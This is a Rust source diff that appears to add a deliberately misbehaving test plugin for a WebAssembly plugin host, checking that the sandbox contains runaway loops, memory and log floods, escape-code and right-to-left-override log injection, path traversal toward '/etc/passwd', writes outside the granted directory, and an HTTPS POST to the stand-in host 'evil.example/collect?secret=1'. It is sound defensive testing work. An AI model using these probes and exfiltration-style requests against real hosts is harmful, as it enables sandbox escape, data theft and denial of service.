@@ -1,0 +1,189 @@
+//! What it does to the host itself, in `check`.
+
+use crate::behaviour::Behaviour;
+use crate::bindings::sluice::plugin::files::{FileError, Readable, Writable};
+use crate::bindings::sluice::plugin::log::{self, Level};
+use crate::bindings::sluice::plugin::types::Fault;
+use crate::setting;
+use std::hint::black_box;
+
+pub fn check(behaviour: Behaviour, config: &str) -> Result<(), Fault> {
+    let dir = setting(config, "dir");
+    match behaviour {
+        Behaviour::Loop => loop {
+            black_box(0);
+        },
+        Behaviour::Allocate => {
+            let mut kept: Vec<Vec<u8>> = Vec::new();
+            loop {
+                kept.push(vec![1; 1 << 20]);
+                black_box(&kept);
+            }
+        }
+        Behaviour::Recurse => {
+            black_box(recurse(1));
+        }
+        Behaviour::Panic => panic!("the number is {}\u{1b}[2J", 42),
+        Behaviour::PanicAtLength => panic!("{} the end", "x".repeat(1 << 20)),
+        Behaviour::Exit => std::process::exit(7),
+        Behaviour::Sleep => std::thread::sleep(std::time::Duration::from_hours(1)),
+        Behaviour::StderrFlood => {
+            for line in 0..10_000 {
+                eprintln!("line {line} of many, each of them longer than need be");
+            }
+        }
+        Behaviour::Random => {
+            black_box(wasip2::random::random::get_random_bytes(1 << 30));
+        }
+        Behaviour::LogFlood => {
+            for line in 0..5_000 {
+                log::write(Level::Info, &format!("line {line}"), &[]);
+            }
+        }
+        Behaviour::LogControl => {
+            let field = ("user".to_owned(), "\u{202e}gnp.exe\r\n".to_owned());
+            log::write(Level::Error, "cleared \u{1b}[2J", &[field]);
+            log::write(Level::Info, &"long ".repeat(100_000), &[]);
+        }
+        Behaviour::LogHuge => log::write(Level::Info, &"x".repeat(100 << 20), &[]),
+        Behaviour::HandleLeak => {
+            for _ in 0..10_000 {
+                std::mem::forget(Readable::open(&dir).map_err(told)?);
+            }
+        }
+        Behaviour::LookAround => return Err(Fault::Broken(look_around())),
+        Behaviour::DirNotGranted => {
+            Readable::open("/etc").map_err(told)?;
+        }
+        Behaviour::DirNotWritable => {
+            Writable::open(&dir).map_err(told)?;
+        }
+        Behaviour::PathEscape => return Err(Fault::Broken(path_escape(&dir)?)),
+        Behaviour::WriteEscape => return Err(Fault::Broken(write_escape(&dir)?)),
+        Behaviour::Fifo => {
+            let listed = Readable::open(&dir).map_err(told)?;
+            listed.read("fifo", 0, 10).map_err(told)?;
+        }
+        Behaviour::HttpNotGranted => send()?,
+        Behaviour::HeaderFlood => {
+            let fields = wasip2::http::types::Fields::new();
+            for number in 0..100_000 {
+                let _ = fields.append(&format!("x-{number}"), b"value");
+            }
+        }
+        Behaviour::FaultText => {
+            return Err(Fault::Broken(format!("\u{7}{}", "no ".repeat(100_000))));
+        }
+        _ => {}
+    }
+    Ok(())
+}
+
+fn recurse(depth: u64) -> u64 {
+    let frame = [depth; 64];
+    if depth == 0 {
+        0
+    } else {
+        black_box(recurse(black_box(depth + 1))) + black_box(frame)[1]
+    }
+}
+
+fn told(error: FileError) -> Fault {
+    match error {
+        FileError::Denied(text) => Fault::Denied(text),
+        other => Fault::Broken(format!("{other:?}")),
+    }
+}
+
+fn look_around() -> String {
+    let variables = std::env::vars().count();
+    let arguments = std::env::args().count();
+    let root = std::fs::read_dir("/").is_ok();
+    let passwd = std::fs::read("/etc/passwd").is_ok();
+    let socket = std::net::TcpStream::connect("127.0.0.1:1").is_ok();
+    let name = std::net::ToSocketAddrs::to_socket_addrs("localhost:1").is_ok();
+    format!("{variables} {arguments} {root} {passwd} {socket} {name}")
+}
+
+/// What came of each path: `refused` where the host said that the path cannot be used.
+fn path_escape(dir: &str) -> Result<String, Fault> {
+    let dir = Readable::open(dir).map_err(told)?;
+    let paths = [
+        "../secret",
+        "/etc/passwd",
+        "a/../../secret",
+        "link-out",
+        "link-dir/secret",
+        "",
+        ".",
+        "a//b",
+        "sub",
+    ];
+    let outcomes = paths.map(|path| outcome(&dir.read(path, 0, 10)));
+    let listed = dir.list().map_err(told)?;
+    let names: Vec<_> = listed.iter().map(|entry| entry.path.as_str()).collect();
+    Ok(format!("{} | {}", outcomes.join(" "), names.join(" ")))
+}
+
+fn write_escape(dir: &str) -> Result<String, Fault> {
+    let dir = Writable::open(dir).map_err(told)?;
+    let outcomes = [
+        outcome(&dir.create("../made")),
+        outcome(&dir.create("/tmp/made")),
+        outcome(&dir.create("link-dir/made")),
+        outcome(&dir.create("link-out")),
+        outcome(&dir.create("fifo")),
+        outcome(&dir.create("sub")),
+        outcome(&dir.rename("plain", "../moved")),
+        outcome(&dir.rename("plain", "link-dir/moved")),
+        outcome(&dir.rename("sub", "moved")),
+        outcome(&dir.remove("sub")),
+        outcome(&dir.remove("../secret")),
+    ];
+    Ok(outcomes.join(" "))
+}
+
+fn outcome<T>(result: &Result<T, FileError>) -> &'static str {
+    match result {
+        Ok(_) => "done",
+        Err(FileError::Invalid(_)) => "refused",
+        Err(FileError::Denied(_)) => "denied",
+        Err(FileError::NotFound(_)) => "missing",
+        Err(FileError::Transient(_)) => "transient",
+        Err(FileError::Other(_)) => "other",
+    }
+}
+
+/// A request with a body that is larger than any buffer, so that a host that only drops it would be seen.
+fn send() -> Result<(), Fault> {
+    use wasip2::http::outgoing_handler::handle;
+    use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
+    let broken = |what: &str| Fault::Broken(what.to_owned());
+    let request = OutgoingRequest::new(Fields::new());
+    let _ = request.set_method(&Method::Post);
+    let _ = request.set_scheme(Some(&Scheme::Https));
+    let _ = request.set_authority(Some("evil.example"));
+    let _ = request.set_path_with_query(Some("/collect?secret=1"));
+    let body = request.body().map_err(|()| broken("no body"))?;
+    let answer = handle(request, None).map_err(|error| Fault::Broken(format!("{error:?}")))?;
+    {
+        let stream = body.write().map_err(|()| broken("no stream"))?;
+        for _ in 0..64 {
+            stream
+                .blocking_write_and_flush(&[0; 4096])
+                .map_err(|error| broken(&format!("write: {error:?}")))?;
+        }
+    }
+    OutgoingBody::finish(body, None).map_err(|error| broken(&format!("finish: {error:?}")))?;
+    answer.subscribe().block();
+    match answer.get() {
+        Some(Ok(Err(ErrorCode::InternalError(Some(text))))) => {
+            match text.strip_prefix("denied: ") {
+                Some(text) => Err(Fault::Denied(text.to_owned())),
+                None => Err(Fault::Broken(text)),
+            }
+        }
+        Some(Ok(Err(other))) => Err(Fault::Broken(format!("{other:?}"))),
+        _ => Ok(()),
+    }
+}
